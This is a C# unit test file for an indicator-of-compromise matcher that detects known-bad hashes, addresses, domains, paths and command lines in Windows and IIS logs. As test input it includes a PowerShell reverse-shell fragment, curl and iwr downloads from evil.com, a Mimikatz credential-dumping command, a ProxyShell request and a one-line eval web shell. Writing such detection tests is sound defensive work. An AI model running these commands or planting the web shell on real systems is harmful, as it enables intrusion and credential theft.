using System.Security.Cryptography;
using System.Text;
using Ooda.Core;
using Ooda.Detection.Iocs;
using static Ooda.Detection.Tests.Iocs.IocEvents;

namespace Ooda.Detection.Tests.Iocs;

public sealed class IocMatcherTests
{
    private const string EmptyMd5 = "d41d8cd98f00b204e9800998ecf8427e";
    private const string EmptySha1 = "da39a3ee5e6b4b0d3255bfef95601890afd80709";
    private const string EmptySha256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";

    public static TheoryData<IocKind, string, string, string, bool> Cases => new()
    {
        // Hashes: Sysmon lists, bare fields, any case; an import hash is not a file hash.
        { IocKind.Md5, EmptyMd5, "Hashes", $"SHA1={EmptySha1},MD5={EmptyMd5.ToUpperInvariant()},SHA256={EmptySha256}", true },
        { IocKind.Md5, EmptyMd5, "Hashes", $"SHA1={EmptySha1},IMPHASH={EmptyMd5}", false },
        { IocKind.Md5, EmptyMd5, "md5", EmptyMd5, true },
        { IocKind.Sha1, EmptySha1, "Hashes", $"SHA1={EmptySha1.ToUpperInvariant()}", true },
        { IocKind.Sha256, EmptySha256, "sha256", EmptySha256.ToUpperInvariant(), true },
        { IocKind.Sha256, EmptySha256, "sha256", EmptySha256[..63] + "0", false },
        { IocKind.Sha256, EmptySha256, "CommandLine", $"certutil -hashfile x SHA256 => {EmptySha256}", true },

        // Addresses, IPv4 and IPv6, in every address field and with ports.
        { IocKind.Ip, "10.1.2.3", "c-ip", "10.1.2.3", true },
        { IocKind.Ip, "10.1.2.3", "c-ip", "10.1.2.30", false },
        { IocKind.Ip, "10.1.2.3", "c-ip", "110.1.2.3", false },
        { IocKind.Ip, "10.1.2.3", "SourceAddress", "::ffff:10.1.2.3", true },
        { IocKind.Ip, "10.1.2.3", "IpAddress", "10.1.2.3:445", true },
        { IocKind.Ip, "2001:db8::1", "DestinationIp", "2001:0DB8:0:0:0:0:0:1", true },
        { IocKind.Ip, "2001:db8::1", "DestinationIp", "2001:db8::2", false },
        { IocKind.Ip, "10.1.2.3", "ScriptBlockText", "$c = New-Object Net.Sockets.TCPClient('10.1.2.3',443)", true },
        { IocKind.Ip, "10.1.2.3", "ScriptBlockText", "version 10.1.2.33 installed", false },
        { IocKind.Ip, "10.1.2.3", "SubjectUserName", "10.1.2.3", false },

        // Networks: both edges in, one past each edge out.
        { IocKind.Cidr, "192.168.1.0/24", "c-ip", "192.168.1.0", true },
        { IocKind.Cidr, "192.168.1.0/24", "c-ip", "192.168.1.255", true },
        { IocKind.Cidr, "192.168.1.0/24", "c-ip", "192.168.2.0", false },
        { IocKind.Cidr, "192.168.1.0/24", "c-ip", "192.168.0.255", false },
        { IocKind.Cidr, "10.0.0.0/8", "DestinationIp", "10.255.255.255", true },
        { IocKind.Cidr, "10.0.0.0/8", "DestinationIp", "11.0.0.0", false },
        { IocKind.Cidr, "203.0.113.7/32", "DestinationIp", "203.0.113.7", true },
        { IocKind.Cidr, "203.0.113.7/32", "DestinationIp", "203.0.113.8", false },
        { IocKind.Cidr, "2001:db8::/32", "DestinationIp", "2001:db8:ffff:ffff:ffff:ffff:ffff:ffff", true },
        { IocKind.Cidr, "2001:db8::/32", "DestinationIp", "2001:db9::", false },
        { IocKind.Cidr, "::/0", "DestinationIp", "10.0.0.1", false },

        // Domains: themselves and subdomains, never a longer label or another suffix.
        { IocKind.Domain, "evil.com", "DestinationHostname", "evil.com", true },
        { IocKind.Domain, "evil.com", "QueryName", "a.b.EVIL.com.", true },
        { IocKind.Domain, "evil.com", "QueryName", "notevil.com", false },
        { IocKind.Domain, "evil.com", "QueryName", "evil.com.au", false },
        { IocKind.Domain, "evil.com", "QueryName", "evil.co", false },
        { IocKind.Domain, "evil.com", "cs-host", "mail.evil.com:443", true },
        { IocKind.Domain, "evil.com", "Url", "https://user@cdn.evil.com:8443/a?b", true },
        { IocKind.Domain, "evil.com", "Url", "https://notevil.com/evil.com", false },
        { IocKind.Domain, "evil.com", "CommandLine", "curl -o x http://dl.evil.com/p.exe", true },
        { IocKind.Domain, "evil.com", "CommandLine", "curl -o x http://dl.notevil.com/p.exe", false },
        { IocKind.Domain, "evil.com", "QueryResults", "type: 5 cdn.evil.com;::ffff:1.2.3.4;", true },

        // URLs: any scheme, substring of URLs and command lines; host boundaries kept.
        { IocKind.Url, "hxxp://evil[.]com/gate.php", "CommandLine", "powershell iwr HTTPS://evil.com/gate.php?id=1", true },
        { IocKind.Url, "http://evil.com/gate.php", "CommandLine", "powershell iwr https://notevil.com/gate.php", false },
        { IocKind.Url, "http://evil.com/gate.php", "Url", "http://evil.com/gate.php", true },
        { IocKind.Url, "/owa/auth/x.js", "cs-uri-stem", "/owa/auth/x.js", true },

        // File names: the last component, whole, any case.
        { IocKind.FileName, "mimikatz.exe", "Image", @"C:\Tools\MIMIKATZ.EXE", true },
        { IocKind.FileName, "mimikatz.exe", "Image", @"C:\Tools\notmimikatz.exe", false },
        { IocKind.FileName, "mimikatz.exe", "TargetFilename", @"C:\mimikatz.exe.bak", false },
        { IocKind.FileName, "shell.aspx", "cs-uri-stem", "/aspnet_client/shell.aspx", true },

        // Path globs: * stays in one folder, ** crosses folders, / and \ alike.
        { IocKind.FilePath, @"C:\inetpub\wwwroot\aspnet_client\*.aspx", "TargetFilename", @"c:\inetpub\wwwroot\aspnet_client\shell.ASPX", true },
        { IocKind.FilePath, @"C:\inetpub\wwwroot\aspnet_client\*.aspx", "TargetFilename", @"c:\inetpub\wwwroot\aspnet_client\system_web\shell.aspx", false },
        { IocKind.FilePath, @"C:\inetpub\wwwroot\aspnet_client\**.aspx", "TargetFilename", @"c:\inetpub\wwwroot\aspnet_client\system_web\shell.aspx", true },
        { IocKind.FilePath, @"**\aspnet_client\*.aspx", "cs-uri-stem", "/aspnet_client/x.aspx", true },
        { IocKind.FilePath, "*.aspx", "TargetFilename", @"C:\inetpub\wwwroot\aspnet_client\errorEE.aspx", true },
        { IocKind.FilePath, "*.aspx", "TargetFilename", @"C:\inetpub\wwwroot\aspnet_client\errorEE.aspx.txt", false },

        // Path regexes: case-sensitive unless (?i), searched anywhere in the path.
        { IocKind.FilePathRegex, @"\\usbclass\.sys", "ImageLoaded", @"C:\Windows\System32\drivers\usbclass.sys", true },
        { IocKind.FilePathRegex, @"\\usbclass\.sys", "ImageLoaded", @"C:\Windows\System32\drivers\USBCLASS.SYS", false },
        { IocKind.FilePathRegex, @"(?i)\\usbclass\.sys", "ImageLoaded", @"C:\Windows\System32\drivers\USBCLASS.SYS", true },
        { IocKind.FilePathRegex, @"\\(q32|q64|wce)\.exe", "Image", @"C:\Temp\wce.exe", true },

        // User agents: IIS's + for space, any case.
        { IocKind.UserAgent, "Mozilla/5.0 (compatible; MSIE 9.0", "cs(User-Agent)", "Mozilla/5.0+(compatible;+MSIE+9.0;+Windows+NT+6.1)", true },
        { IocKind.UserAgent, "python-requests", "UserAgent", "Python-Requests/2.25.1", true },
        { IocKind.UserAgent, "python-requests", "UserAgent", "python-request/2.25.1", false },

        // Command lines and keywords.
        { IocKind.CommandLine, "-enc JAB", "CommandLine", "powershell.exe -nop -ENC JABzAD0A", true },
        { IocKind.CommandLine, "-enc JAB", "ParentCommandLine", "powershell.exe -nop -ENC JABzAD0A", true },
        { IocKind.CommandLine, "-enc JAB", "CommandLine", "powershell.exe -nop -enc SQBFAFgA", false },
        { IocKind.CommandLineRegex, @"-nop\s+-w\s+hidden", "CommandLine", "powershell -nop  -w hidden -c x", true },
        { IocKind.CommandLineRegex, @"-nop\s+-w\s+hidden", "CommandLine", "powershell -nop -w normal", false },
        { IocKind.Keyword, "sekurlsa::logonpasswords", "ScriptBlockText", "Invoke-Mimikatz -Command 'sekurlsa::LogonPasswords'", true },
        { IocKind.Keyword, "sekurlsa::logonpasswords", "Payload", "sekurlsa::logonpassword", false },
        { IocKind.Keyword, "sekurlsa::logonpasswords", "Image", "sekurlsa::logonpasswords", false },
    };

    [Theory]
    [MemberData(nameof(Cases))]
    public void Each_kind_matches_its_fields_and_nothing_more(IocKind kind, string value, string field, string text, bool matches)
    {
        var matcher = IocMatcher.Compile(Set(new Ioc(kind, value) { Source = new IocSource("case.csv", "1") }));

        var hits = Match(matcher, Event((field, text)));

        if (matches)
        {
            var hit = Assert.Single(hits);
            Assert.Equal(kind, hit.Ioc.Kind);
            Assert.Equal(field, hit.Field);
        }
        else
        {
            Assert.Empty(hits);
        }
    }

    [Fact]
    public void The_same_cases_match_all_together_in_one_set()
    {
        var cases = Cases.Select(row => ((IocKind)row[0], (string)row[1], (string)row[2], (string)row[3], (bool)row[4])).ToList();
        var matcher = IocMatcher.Compile(IocSet.Create(cases.Select(c => new Ioc(c.Item1, c.Item2))));

        foreach (var (kind, value, field, text, matches) in cases)
        {
            var expected = IocSet.Normalize(new Ioc(kind, value), out _)!.Value;
            var hits = Match(matcher, Event((field, text)));
            Assert.True(matches == hits.Any(h => h.Ioc.Kind == kind && h.Ioc.Value == expected), $"{kind} {value} in {field}='{text}'");
        }
    }

    [Fact]
    public void Nested_networks_all_report_and_siblings_do_not()
    {
        var matcher = IocMatcher.Compile(Set(
            new Ioc(IocKind.Cidr, "10.0.0.0/8"),
            new Ioc(IocKind.Cidr, "10.1.0.0/16"),
            new Ioc(IocKind.Cidr, "10.1.2.0/24"),
            new Ioc(IocKind.Cidr, "10.3.0.0/16"),
            new Ioc(IocKind.Ip, "10.1.2.3")));

        Assert.Equal(["10.0.0.0/8", "10.1.0.0/16", "10.1.2.0/24", "10.1.2.3"], Match(matcher, Event(("c-ip", "10.1.2.3"))).Select(h => h.Ioc.Value).Order());
        Assert.Equal(["10.0.0.0/8"], Match(matcher, Event(("c-ip", "10.2.0.1"))).Select(h => h.Ioc.Value));
        Assert.Equal(["10.0.0.0/8", "10.3.0.0/16"], Match(matcher, Event(("c-ip", "10.3.255.255"))).Select(h => h.Ioc.Value).Order());
    }

    [Fact]
    public void A_url_split_over_iis_fields_is_joined_before_matching()
    {
        var matcher = IocMatcher.Compile(Set(
            new Ioc(IocKind.Url, "https://mail.victim.example/autodiscover/autodiscover.json?@evil.com/owa/"),
            new Ioc(IocKind.Url, "/ecp/y.js?x=1")));

        var proxyShell = Event(("cs-host", "mail.victim.example"), ("cs-uri-stem", "/autodiscover/autodiscover.json"), ("cs-uri-query", "@evil.com/owa/&Email=autodiscover/autodiscover.json%3F@evil.com"));
        var withoutHost = Event(("cs-uri-stem", "/ecp/y.js"), ("cs-uri-query", "x=1"));

        Assert.Equal("cs-host+cs-uri-stem?cs-uri-query", Assert.Single(Match(matcher, proxyShell)).Field);
        Assert.Single(Match(matcher, withoutHost));
        Assert.Empty(Match(matcher, Event(("cs-uri-stem", "/ecp/y.js"), ("cs-uri-query", "-"))));
    }

    [Fact]
    public void An_indicator_is_reported_once_per_field_however_often_it_occurs()
    {
        var matcher = IocMatcher.Compile(Set(new Ioc(IocKind.Keyword, "mimikatz")));

        var hits = Match(matcher, Event(("CommandLine", "mimikatz mimikatz MIMIKATZ"), ("ParentCommandLine", "cmd /c mimikatz")));

        Assert.Equal(["CommandLine", "ParentCommandLine"], hits.Select(h => h.Field).Order());
    }

    [Fact]
    public void Hit_text_is_clipped_around_the_match()
    {
        var matcher = IocMatcher.Compile(Set(new Ioc(IocKind.Keyword, "needle")), new IocMatcherOptions { MaxHitText = 40 });
        var haystack = new string('a', 5000) + "NEEDLE" + new string('b', 5000);

        var hit = Assert.Single(Match(matcher, Event(("ScriptBlockText", haystack))));

        Assert.Equal(40, hit.Text.Length);
        Assert.Contains("NEEDLE", hit.Text, StringComparison.Ordinal);
    }

    [Fact]
    public void A_false_positive_exclusion_suppresses_the_hit()
    {
        var matcher = IocMatcher.Compile(Set(new Ioc(IocKind.FilePathRegex, @"\\procdump(64)?\.exe") { Exclude = @"(?i)\\SysInternals\\" }));

        Assert.Single(Match(matcher, Event(("Image", @"C:\Temp\procdump64.exe"))));
        Assert.Empty(Match(matcher, Event(("Image", @"C:\Tools\SysInternals\procdump64.exe"))));
    }

    [Fact]
    public void Globs_and_regexes_without_a_literal_still_run()
    {
        var matcher = IocMatcher.Compile(Set(new Ioc(IocKind.FilePath, @"?:\*\*"), new Ioc(IocKind.CommandLineRegex, @"^\w{2}\s\d$")));

        Assert.Equal(2, matcher.Statistics.Unfiltered);
        Assert.Single(Match(matcher, Event(("Image", @"C:\x\y.exe"))));
        Assert.Single(Match(matcher, Event(("CommandLine", "ab 7"))));
        Assert.Empty(Match(matcher, Event(("CommandLine", "abc 7"))));
    }

    [Fact]
    public void Validity_is_ignored_by_default_and_honoured_when_asked()
    {
        var set = Set(new Ioc(IocKind.Ip, "10.9.9.9") { ValidFrom = Time.AddDays(1), ValidUntil = Time.AddDays(30) });
        var before = Event(Time, ("c-ip", "10.9.9.9"));
        var during = Event(Time.AddDays(2), ("c-ip", "10.9.9.9"));

        Assert.Single(Match(IocMatcher.Compile(set), before));
        var strict = IocMatcher.Compile(set, new IocMatcherOptions { RespectValidity = true });
        Assert.Empty(Match(strict, before));
        Assert.Single(Match(strict, during));
    }

    [Fact]
    public void A_flood_of_hits_is_capped_per_event()
    {
        var iocs = Enumerable.Range(0, 50).Select(i => new Ioc(IocKind.Keyword, $"kw{i:D3}")).ToArray();
        var matcher = IocMatcher.Compile(Set(iocs), new IocMatcherOptions { MaxHitsPerEvent = 10 });

        var hits = Match(matcher, Event(("CommandLine", string.Concat(iocs.Select(i => i.Value + " ")))));

        Assert.Equal(10, hits.Count);
    }

    [Fact]
    public void Catastrophic_backtracking_times_out_with_a_diagnostic_and_is_switched_off()
    {
        var diagnostics = new List<Diagnostic>();
        var options = new IocMatcherOptions { RegexTimeout = TimeSpan.FromMilliseconds(20), RegexTimeoutsBeforeDisable = 2, OnDiagnostic = diagnostics.Add };

        // The lookahead forces the backtracking engine; (a+)+ on a's not followed by b is exponential.
        var matcher = IocMatcher.Compile(Set(new Ioc(IocKind.CommandLineRegex, "(a+)+(?=b)") { Source = new IocSource("evil.csv", "3") }), options);
        var hostile = Event(("CommandLine", new string('a', 40) + "!"));

        for (var i = 0; i < 4; i++)
            Assert.Empty(Match(matcher, hostile));

        Assert.Equal(1, matcher.Statistics.BacktrackingRegexes);
        Assert.Equal(2, diagnostics.Count);
        Assert.All(diagnostics, d => Assert.Equal("events.jsonl:7", $"{d.File}:{d.Location}"));
        Assert.Contains("evil.csv:3", diagnostics[0].Message, StringComparison.Ordinal);
        Assert.Contains("switched off", diagnostics[1].Message, StringComparison.Ordinal);
    }

    [Fact]
    public void A_regex_that_times_out_moves_to_the_linear_time_engine_and_still_matches()
    {
        var diagnostics = new List<Diagnostic>();
        var options = new IocMatcherOptions { RegexTimeout = TimeSpan.FromMilliseconds(20), OnDiagnostic = diagnostics.Add };
        var matcher = IocMatcher.Compile(Set(new Ioc(IocKind.CommandLineRegex, "^(a|aa)+$")), options);

        Assert.Equal(0, matcher.Statistics.BacktrackingRegexes);
        Assert.Empty(Match(matcher, Event(("CommandLine", new string('a', 5_000) + "!"))));
        Assert.Single(Match(matcher, Event(("CommandLine", new string('a', 5_000)))));
        Assert.Contains("linear-time", Assert.Single(diagnostics).Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Huge_values_are_searched_up_to_the_limit()
    {
        var matcher = IocMatcher.Compile(Set(new Ioc(IocKind.Keyword, "needle")), new IocMatcherOptions { MaxValueLength = 1000 });

        Assert.Single(Match(matcher, Event(("Payload", new string('x', 900) + "needle"))));
        Assert.Empty(Match(matcher, Event(("Payload", new string('x', 2000) + "needle"))));
    }

    [Fact]
    public void Matching_an_event_without_hits_allocates_nothing()
    {
        var matcher = IocMatcher.Compile(Set(
            new Ioc(IocKind.Sha256, EmptySha256),
            new Ioc(IocKind.Ip, "10.1.2.3"),
            new Ioc(IocKind.Cidr, "172.16.0.0/12"),
            new Ioc(IocKind.Domain, "evil.com"),
            new Ioc(IocKind.Url, "http://evil.com/gate.php"),
            new Ioc(IocKind.FileName, "mimikatz.exe"),
            new Ioc(IocKind.FilePath, @"C:\inetpub\wwwroot\aspnet_client\*.aspx"),
            new Ioc(IocKind.UserAgent, "python-requests"),
            new Ioc(IocKind.CommandLine, "-enc JAB"),
            new Ioc(IocKind.Keyword, "sekurlsa")));
        var e = Event(
            ("Image", @"C:\Windows\System32\svchost.exe"),
            ("CommandLine", @"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule 10.0.0.1 corp.example"),
            ("Hashes", $"SHA1={EmptySha1},MD5={EmptyMd5},SHA256={EmptySha256[..63]}0"),
            ("DestinationIp", "192.168.1.1"),
            ("QueryName", "www.example.com"),
            ("cs(User-Agent)", "Mozilla/5.0+(Windows+NT+10.0)"),
            ("cs-uri-stem", "/owa/auth/logon.aspx"),
            ("cs-uri-query", "replaceCurrent=1"));
        var hits = new List<IocHit>();
        for (var i = 0; i < 100; i++)
            matcher.Match(e, hits);

        var before = GC.GetAllocatedBytesForCurrentThread();
        for (var i = 0; i < 1000; i++)
            matcher.Match(e, hits);
        var allocated = GC.GetAllocatedBytesForCurrentThread() - before;

        Assert.Empty(hits);
        Assert.Equal(0, allocated);
    }

    [Fact]
    public void A_captured_file_matches_by_name_path_and_every_hash()
    {
        var content = Encoding.UTF8.GetBytes("<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"x\"],\"unsafe\");%>");
        var md5 = Convert.ToHexStringLower(MD5.HashData(content));
        var sha1 = Convert.ToHexStringLower(SHA1.HashData(content));
        var sha256 = Convert.ToHexStringLower(SHA256.HashData(content));
        var matcher = IocMatcher.Compile(Set(
            new Ioc(IocKind.Md5, md5),
            new Ioc(IocKind.Sha1, sha1),
            new Ioc(IocKind.Sha256, sha256),
            new Ioc(IocKind.FileName, "errorEE.aspx"),
            new Ioc(IocKind.FilePath, @"C:\inetpub\wwwroot\aspnet_client\*.aspx")));
        var file = new CapturedFile("acme", "ex01", @"C:\inetpub\wwwroot\aspnet_client\errorEE.aspx", "fs/C/inetpub/wwwroot/aspnet_client/errorEE.aspx", content.Length, IocEvents.Time, IocEvents.Time, sha256, content[..16]);
        var hits = new List<IocHit>();

        matcher.MatchFile(file, new MemoryStream(content), hits);

        Assert.Equal(["FileName:OriginalPath", "FilePath:OriginalPath", "Md5:Md5", "Sha1:Sha1", "Sha256:Sha256"], hits.Select(h => $"{h.Ioc.Kind}:{h.Field}").Order());
    }

    [Fact]
    public void A_captured_file_without_a_recorded_sha256_is_hashed()
    {
        var content = Encoding.UTF8.GetBytes("payload");
        var sha256 = Convert.ToHexStringLower(SHA256.HashData(content));
        var matcher = IocMatcher.Compile(Set(new Ioc(IocKind.Sha256, sha256)));
        var file = new CapturedFile("acme", "ex01", @"C:\x.bin", "fs/C/x.bin", content.Length, IocEvents.Time, IocEvents.Time, string.Empty, content);
        var hits = new List<IocHit>();

        matcher.MatchFile(file, new MemoryStream(content), hits);

        Assert.Equal("Sha256", Assert.Single(hits).Field);
    }

    [Fact]
    public void A_custom_field_map_decides_where_indicators_are_looked_for()
    {
        var set = Set(new Ioc(IocKind.Ip, "10.1.2.3"));
        var e = Event(("RemoteHost", "10.1.2.3"));

        Assert.Empty(Match(IocMatcher.Compile(set), e));
        var custom = IocMatcher.Compile(set, new IocMatcherOptions { Fields = IocFieldMap.Default.With(new IocField("RemoteHost", IocFieldRole.Host)) });
        Assert.Single(Match(custom, e));
    }

    [Fact]
    public void Match_value_tests_one_value_under_given_roles()
    {
        var matcher = IocMatcher.Compile(Set(new Ioc(IocKind.Domain, "evil.com")));
        var hits = new List<IocHit>();

        matcher.MatchValue("note", IocFieldRole.Text, "beacon to c2.evil.com every 60s", hits);

        Assert.Equal("c2.evil.com", Assert.Single(hits).Text);
    }
}
